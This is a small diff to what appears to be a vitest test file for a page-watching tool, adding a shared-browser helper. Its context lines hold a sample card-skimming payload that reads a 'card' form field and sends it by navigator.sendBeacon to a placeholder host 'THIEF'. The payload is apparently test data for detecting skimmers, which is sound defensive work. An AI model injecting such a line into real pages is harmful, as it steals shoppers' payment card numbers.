@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest'
-import { browser } from './shared-browser.ts'
+import { browser, shareBrowser } from './shared-browser.ts'
 import { cardForm, watchPage } from './watch-page.ts'
+
+shareBrowser()
 
 const pan = `document.getElementById('card').value`
 const beacon = `navigator.sendBeacon('http://THIEF/c', ${pan})`
